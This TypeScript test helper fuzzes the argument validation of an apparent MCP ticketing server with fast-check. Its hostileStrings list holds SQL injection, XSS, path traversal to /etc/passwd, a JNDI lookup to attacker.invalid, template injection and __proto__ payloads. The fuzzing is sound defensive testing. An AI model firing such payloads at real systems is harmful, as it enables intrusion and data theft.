import { Either, Schema, SchemaAST as AST } from "effect"
import fc from "fast-check"
import { decodeOptions } from "../../src/mcp/StandardSchema.js"
import { describeIssues, type SchemaIssue } from "../../src/mcp/SchemaIssues.js"
import type * as Tool from "../../src/mcp/Tool.js"

/**
 * Random and adversarial tool arguments, and the oracle that says which field a bad argument set gets wrong.
 *
 * Each case starts from arguments that are valid for the tool and breaks one thing: a field gets a hostile value,
 * an unknown field is added, or a field is removed. Whether a value is bad for a field is decided by that field's
 * own Schema, so the property "the issues name the offending field" does not restate the tool's rules.
 */

/** Arguments each tool accepts (checked by the unit properties), as a base to break. */
export const validArguments: Readonly<Record<string, Record<string, unknown>>> = {
  search_tickets: { title: "VPN", limit: 5 },
  get_ticket: { ticket_id: 56, article_limit: 2 },
  get_ticket_history: { ticket_id: 56, limit: 10 },
  create_ticket: { title: "Printer jam", body: "The printer on floor 2 jams." },
  update_ticket: { ticket_id: 2, priority: "3 normal" },
  search_config_items: { class: "Computer", limit: 3 },
  get_config_item: { config_item_id: 1 },
  create_session: {}
}

export interface Field {
  readonly name: string
  readonly optional: boolean
  /** decodes this field's value alone */
  readonly accepts: (value: unknown) => boolean
}

/** The top-level fields of a tool's input (a Struct, possibly refined by cross-field filters). */
export const fieldsOf = (tool: Tool.Any<unknown>): ReadonlyArray<Field> => {
  let ast = tool.input.ast
  while (AST.isRefinement(ast)) ast = ast.from
  if (!AST.isTypeLiteral(ast)) throw new Error(`${tool.name}: input is not a Struct`)
  return ast.propertySignatures.map((signature) => {
    const decode = Schema.decodeUnknownEither(Schema.make(signature.type), decodeOptions)
    return {
      name: String(signature.name),
      optional: signature.isOptional,
      accepts: (value) => Either.isRight(decode(value))
    }
  })
}

export type Decoded =
  | { readonly valid: true }
  | { readonly valid: false; readonly issues: ReadonlyArray<SchemaIssue> }

/** What the server does with arguments before anything else: decode with the tool's input Schema. */
export const decodeArguments = (tool: Tool.Any<unknown>, args: unknown): Decoded => {
  const decoded = Schema.decodeUnknownEither(tool.input, decodeOptions)(args)
  return Either.isRight(decoded) ? { valid: true } : { valid: false, issues: describeIssues(decoded.left.issue) }
}

/** An issue names the field when its path starts there, or, for a rule about several fields, its message does. */
export const namesField = (issues: ReadonlyArray<SchemaIssue>, field: string): boolean =>
  issues.some((issue) => issue.path[0] === field || (issue.path.length === 0 && issue.message.includes(field)))

/**
 * The same check on the text of an isError result (ToolResult.invalidArguments: "- path: message" per issue). Field
 * names are printed as sent, line breaks included, so the text is searched as a whole rather than line by line.
 */
export const textNamesField = (text: string, field: string): boolean =>
  [":", ".", "["].some((next) => text.includes(`\n- ${field}${next}`)) ||
  text.split("\n").some((line) => line.startsWith("- (arguments):") && line.includes(field))

export const hostileStrings = [
  "'; DROP TABLE ticket; --",
  "\" OR 1=1 --",
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "${jndi:ldap://attacker.invalid/a}",
  "{{7*7}}",
  "%00",
  "\u0000",
  "\u202e\u0645\u0631\u062d\u0628\u0627",
  "🙂👨‍👩‍👧‍👦",
  "Z\u0351\u0360\u0364a\u0336l\u0337g\u035co",
  "*",
  "%",
  " ",
  "",
  "\n\t",
  "null",
  "-1",
  "1e309",
  "2026-02-30",
  "2026-02-30 25:61",
  "__proto__"
] as const

export const hostileString = fc.oneof(
  fc.constantFrom(...hostileStrings),
  fc.string(),
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc.constantFrom("x".repeat(100_000), "é".repeat(20_000))
)

export const hostileNumber = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.constantFrom(-1, 0, 0.5, -(2 ** 53), 2 ** 53, Number.MAX_SAFE_INTEGER + 2, 1e308, -1e308)
)

/** JSON values, as an MCP client can send them. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  hostileNumber,
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.oneof(hostileString, hostileNumber), { maxLength: 4 }),
  fc.dictionary(fc.oneof(fc.constantFrom(...hostileStrings), fc.string()), fc.oneof(hostileString, hostileNumber), {
    maxKeys: 3
  }),
  fc.jsonValue({ maxDepth: 3 })
)

export type Mutation =
  | { readonly kind: "replace"; readonly field: string; readonly args: Record<string, unknown>; readonly fieldAccepts: boolean }
  | { readonly kind: "unknown"; readonly field: string; readonly args: Record<string, unknown> }
  | { readonly kind: "remove"; readonly field: string; readonly args: Record<string, unknown>; readonly required: boolean }

/** Own data properties, `__proto__` included, as JSON.parse makes them. */
const withEntries = (entries: ReadonlyArray<readonly [string, unknown]>): Record<string, unknown> =>
  Object.fromEntries(entries)

/** As the arguments arrive over JSON-RPC (e.g. -0 becomes 0). */
const overJson = (args: Record<string, unknown>): Record<string, unknown> =>
  JSON.parse(JSON.stringify(args)) as Record<string, unknown>

/** One thing broken in the tool's valid arguments. */
export const mutation = (tool: Tool.Any<unknown>): fc.Arbitrary<Mutation> => {
  const base = validArguments[tool.name]
  if (base === undefined) throw new Error(`no valid arguments for ${tool.name}: add them to validArguments`)
  const fields = fieldsOf(tool)
  const known = new Set(fields.map((field) => field.name))
  const baseEntries = Object.entries(base)

  const unknownField = fc.tuple(
    fc.oneof(fc.constantFrom(...hostileStrings, "ticketID", "TicketID", "SessionID", "constructor"), fc.string({ minLength: 1 }))
      .filter((name) => !known.has(name)),
    hostileValue
  ).map(([field, value]): Mutation => ({
    kind: "unknown",
    field,
    args: overJson(withEntries([...baseEntries, [field, value]]))
  }))

  const arbitraries: Array<fc.Arbitrary<Mutation>> = [unknownField]
  if (fields.length > 0) {
    arbitraries.push(
      fc.tuple(fc.constantFrom(...fields), hostileValue).map(([field, value]): Mutation => {
        const args = overJson(withEntries([...baseEntries.filter(([name]) => name !== field.name), [field.name, value]]))
        return { kind: "replace", field: field.name, args, fieldAccepts: field.accepts(args[field.name]) }
      })
    )
  }
  const present = fields.filter((field) => field.name in base)
  if (present.length > 0) {
    arbitraries.push(
      fc.constantFrom(...present).map((field): Mutation => ({
        kind: "remove",
        field: field.name,
        args: withEntries(baseEntries.filter(([name]) => name !== field.name)),
        required: !field.optional
      }))
    )
  }
  return fc.oneof(...arbitraries)
}

/** Whether the case is one the tool must refuse, naming `field`: a bad value, an unknown or a missing required field. */
export const mustBeRefused = (broken: Mutation): boolean =>
  broken.kind === "unknown" || (broken.kind === "replace" && !broken.fieldAccepts) ||
  (broken.kind === "remove" && broken.required)
